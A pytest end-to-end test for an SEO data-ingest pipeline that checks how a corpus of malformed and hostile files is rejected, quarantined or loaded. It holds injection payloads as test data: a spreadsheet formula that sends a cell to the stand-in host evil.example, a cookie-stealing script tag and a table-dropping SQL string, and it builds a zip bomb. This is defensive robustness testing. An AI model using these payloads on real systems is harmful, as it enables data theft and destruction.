"""The bad-input corpus (tests/corpus/) plus two good exports, landed by ONE real refresh: every file
ends loaded, partly quarantined or rejected with its reason, rows reconcile, the good data is
published, and nothing crashes (no traceback, the quality checks pass on what was landed)."""

from __future__ import annotations

import io
import os
import re
import shutil
import zipfile
from pathlib import Path

import pytest

from tests.conftest import SAMPLE_CONFIG, SAMPLE_INBOX, CliRun, run_cli

pytestmark = pytest.mark.e2e

CORPUS = Path(__file__).resolve().parent.parent / "corpus"
GOOD = {
    "good/knifecraft.co.uk_backlinks_fresh_2026-10-01.csv": "majestic/knifecraft.co.uk_backlinks_fresh_2026-10-01.csv",
    "good/knifecraft.co.uk-backlinks.csv": "semrush/2026-10-01/knifecraft.co.uk-backlinks.csv",
}
LOADED, PARTIAL, REJECTED, DUPLICATE = "loaded", "partly quarantined", "rejected", "duplicate"

# file -> (outcome, a phrase of its rejection or of one quarantine reason)
EXPECTED: dict[str, tuple[str, str | None]] = {
    # not exports at all
    "empty.csv": (REJECTED, "the file is empty"),
    "whitespace_only.csv": (REJECTED, "only whitespace"),
    "bom_only.csv": (REJECTED, "matches no known format"),
    "binary_png_named.csv": (REJECTED, "binary file"),
    "random_bytes.dat": (REJECTED, "binary file"),
    "nul_byte_in_row_semrush.csv": (REJECTED, "binary file"),
    "unknown_header.csv": (REJECTED, "header 'foo, bar, baz' matches no known format"),
    "text_not_a_table.txt": (REJECTED, "matches no known format"),
    "not_really.xlsx": (REJECTED, "matches no known format"),  # content decides, not the extension
    "corrupt_zip.zip": (REJECTED, "binary file"),
    "spreadsheet_not_export.xlsx": (REJECTED, "binary file"),
    "json_not_gsc.json": (REJECTED, "no data rows"),
    "truncated_gsc_api.json": (REJECTED, "not valid UTF-8 JSON"),
    "deeply_nested_gsc_api.json": (REJECTED, "not valid UTF-8 JSON"),  # was a RecursionError
    "truncated_alerts_feed.xml": (REJECTED, "not a readable Google Alerts Atom feed"),
    "billion_laughs_alerts.xml": (REJECTED, "not a readable Google Alerts Atom feed"),
    "xxe_alerts.xml": (REJECTED, "not a readable Google Alerts Atom feed"),
    "markup_in_header.csv": (REJECTED, "header 'Target [/], [red]Source[/red], [link=http://evil.example]anchor'"),
    "export [final].csv": (REJECTED, "header '[bold]Quarterly[/bold] backlink notes' matches no known format"),
    # a known header, but nothing usable under it
    "header_only_semrush.csv": (REJECTED, "no data rows"),
    "header_only_no_newline_majestic.csv": (REJECTED, "no data rows"),
    "only_blank_rows_majestic.csv": (REJECTED, "no usable rows"),
    "all_bad_urls_semrush.csv": (REJECTED, "no usable rows"),
    # damaged tables: the good rows load, the others are quarantined with a reason
    "truncated_mid_row_semrush.csv": (PARTIAL, "row has"),
    "truncated_utf16_ahrefs.csv": (PARTIAL, "row has"),
    "duplicated_header_majestic.csv": (PARTIAL, "repeated header row"),
    "mixed_delimiters_semrush.csv": (PARTIAL, "row has 1 fields, header has 19"),
    "wrong_field_counts_majestic.csv": (PARTIAL, "row has 22 fields, header has 20"),
    "unbalanced_quote_semrush.csv": (PARTIAL, "row has"),
    "damaged_utf8_majestic.csv": (PARTIAL, "undecodable bytes"),
    "absurd_dates_semrush.csv": (PARTIAL, "vendor_first_seen 2099-12-31 is in the future"),
    "absurd_numbers_ahrefs.csv": (PARTIAL, "domain_rating 250.0 outside 0–100"),
    "Performance-absurd-Queries.csv": (PARTIAL, "ctr 2.5 outside 0–1"),
    "public_suffix_source_semrush.csv": (PARTIAL, "no registrable domain"),
    # hostile or odd but legal: loaded, text kept verbatim
    "formula_cells_semrush.csv": (LOADED, None),
    "html_script_majestic.csv": (LOADED, None),
    "control_chars_semrush.csv": (LOADED, None),
    "sql_and_path_injection_semrush.csv": (LOADED, None),
    "long_field_semrush.csv": (LOADED, None),
    "cp1252_moz.csv": (LOADED, None),
    "utf16_no_bom_majestic.csv": (LOADED, None),
    "cr_only_line_endings_majestic.csv": (LOADED, None),  # was a csv.Error in the header search
    "future_snapshot_2099-01-01_majestic.csv": (LOADED, None),
    # made at test time (too big or unportable to commit)
    "ten_mb_single_line.csv": (REJECTED, "matches no known format"),  # was a csv.Error
    "Performance-on-Search-bomb.zip": (REJECTED, "refusing a possible zip bomb"),
    "caf\\xe9_semrush_backlinks.csv": (LOADED, None),  # a Latin-1 name; crashed the whole load
    "zz_copy_of_good.csv": (DUPLICATE, "same bytes as"),  # sorts after its original: the second copy
    **dict.fromkeys(GOOD, (LOADED, None)),
}


def _generated(inbox: Path) -> None:
    (inbox / "ten_mb_single_line.csv").write_bytes(b"A" * (10 * 1024 * 1024))
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("Queries.csv", "w") as member:
        for _ in range(300):  # 300 MiB of zeros, ~300 KiB compressed
            member.write(bytes(1 << 20))
    (inbox / "Performance-on-Search-bomb.zip").write_bytes(bomb.getvalue())
    semrush = (CORPUS / "formula_cells_semrush.csv").read_text().splitlines()
    latin1 = os.path.join(os.fsencode(inbox), b"caf\xe9_semrush_backlinks.csv")
    with open(latin1, "wb") as handle:
        handle.write("\n".join([semrush[0], semrush[1].replace("formula1", "latin1-name")]).encode() + b"\n")
    shutil.copyfile(inbox / "good/knifecraft.co.uk-backlinks.csv", inbox / "zz_copy_of_good.csv")
    (inbox / ".~lock.export.csv#").write_text("an editor's lock file: hidden, never landed\n")


@pytest.fixture(scope="session")
def corpus_refresh(tmp_path_factory) -> CliRun:
    base = tmp_path_factory.mktemp("corpus")
    inbox = base / "inbox"
    inbox.mkdir()
    for path in CORPUS.iterdir():
        if path.name in EXPECTED:
            shutil.copy2(path, inbox / path.name)
    for name, sample in GOOD.items():
        (inbox / name).parent.mkdir(exist_ok=True)
        shutil.copy2(SAMPLE_INBOX / sample, inbox / name)
    _generated(inbox)
    warehouse = base / "warehouse.duckdb"
    proc = run_cli(
        "refresh",
        "--inbox",
        str(inbox),
        "--warehouse",
        str(warehouse),
        "--config",
        str(SAMPLE_CONFIG),
        env={"COLUMNS": "400"},
    )
    return CliRun(proc.returncode, proc.stdout, proc.stderr, warehouse, inbox, SAMPLE_CONFIG)


def _audit(run: CliRun) -> dict[str, dict]:
    columns = [
        "file_name",
        "sha256",
        "status",
        "error",
        "rows_read",
        "rows_loaded",
        "rows_quarantined",
        "kind",
        "snapshot_date_source",
    ]
    rows = run.query(f"select {', '.join(columns)} from audit.ingest_files")
    return {row[0]: dict(zip(columns, row, strict=True)) for row in rows}


def test_every_corpus_file_is_expected():
    committed = {p.name for p in CORPUS.iterdir() if p.name not in ("README.md", "_generate.py")}
    assert committed <= set(EXPECTED), committed - set(EXPECTED)
    assert len(committed) >= 30


def test_the_refresh_finishes_with_exit_1_and_publishes_the_good_data(corpus_refresh):
    run = corpus_refresh
    assert run.exit_code == 1, run.stdout[-3000:] + run.stderr[-3000:]
    assert run.warehouse.exists(), "the good data was not published:\n" + run.stdout[-3000:]
    assert "Traceback" not in run.stdout + run.stderr
    assert "Calculating Metrics" not in run.stdout + run.stderr  # no GX progress bars
    log = (run.warehouse.parent / "logs" / f"{run.warehouse.stem}-last-run.log").read_text(errors="replace")
    assert "parser failed on" not in log  # landing's last-resort catch-all was never needed


def test_every_file_ends_as_expected_with_its_reason(corpus_refresh):
    audit = _audit(corpus_refresh)
    assert set(audit) == set(EXPECTED)  # the hidden lock file is never landed
    quarantine = dict(
        corpus_refresh.query("select file_name, string_agg(reason, ' | ') from audit.quarantine group by 1")
    )
    for name, (outcome, phrase) in EXPECTED.items():
        row = audit[name]
        if outcome == PARTIAL:
            assert (row["status"], row["rows_loaded"] > 0, row["rows_quarantined"] > 0) == ("loaded", True, True), row
            assert phrase in quarantine[name], (name, quarantine[name])
        elif outcome == LOADED:
            assert (row["status"], row["rows_quarantined"], row["rows_loaded"] > 0) == ("loaded", 0, True), row
        else:
            assert row["status"] == outcome, row
            assert phrase in row["error"], (name, row["error"])


def test_rows_reconcile_for_every_file(corpus_refresh):
    audit = _audit(corpus_refresh)
    landed = dict(
        corpus_refresh.query(
            "select file_sha256, count(*) from (select file_sha256 from raw.backlinks union all "
            "select file_sha256 from raw.mentions union all select file_sha256 from raw.rankings) group by 1"
        )
    )
    quarantined = dict(corpus_refresh.query("select file_sha256, count(*) from audit.quarantine group by 1"))
    for name, row in audit.items():
        assert row["rows_read"] == row["rows_loaded"] + row["rows_quarantined"], row
        if row["status"] == DUPLICATE:
            continue  # its bytes are its original's: rows counted there
        assert landed.get(row["sha256"], 0) == (row["rows_loaded"] if row["status"] == "loaded" else 0), name
        assert quarantined.get(row["sha256"], 0) == row["rows_quarantined"], name


def _unwrapped(text: str) -> str:
    return re.sub(r"\s+", "", text)  # the console folds long lines, even inside a word


def test_each_rejected_file_is_named_in_the_output_with_its_reason(corpus_refresh):
    out = _unwrapped(corpus_refresh.stdout)
    for name, row in _audit(corpus_refresh).items():
        if row["status"] == REJECTED:
            assert _unwrapped(f"rejected {name}: {row['error'][:60]}") in out, name


def test_quality_checks_pass_on_what_was_landed(corpus_refresh):
    """Everything absurd was quarantined at landing, so no blocking check fails on vendor data."""
    out = corpus_refresh.stdout
    assert "✗ raw/" not in out and "✗ step" not in out, out[-3000:]


def test_hostile_text_is_stored_verbatim(corpus_refresh):
    anchors = dict(
        corpus_refresh.query("select source_host, anchor from raw.backlinks where source_host like '%.example.%'")
    )
    assert anchors["formula1.example.org"] == '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    assert anchors["xss1.example.net"] == "<script>alert(document.cookie)</script>"
    assert anchors["sqli.example.org"] == "'); drop table audit.ingest_files; --"
    assert anchors["latin1-name.example.org"] == '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    assert corpus_refresh.query("select count(*) from audit.ingest_files")[0][0] == len(EXPECTED)  # not dropped
    assert not any("xxe" in (anchor or "") or "localhost" in (anchor or "") for anchor in anchors.values())


def test_an_impossible_snapshot_date_in_a_name_is_not_used(corpus_refresh):
    row = _audit(corpus_refresh)["future_snapshot_2099-01-01_majestic.csv"]
    assert row["snapshot_date_source"] == "contents"
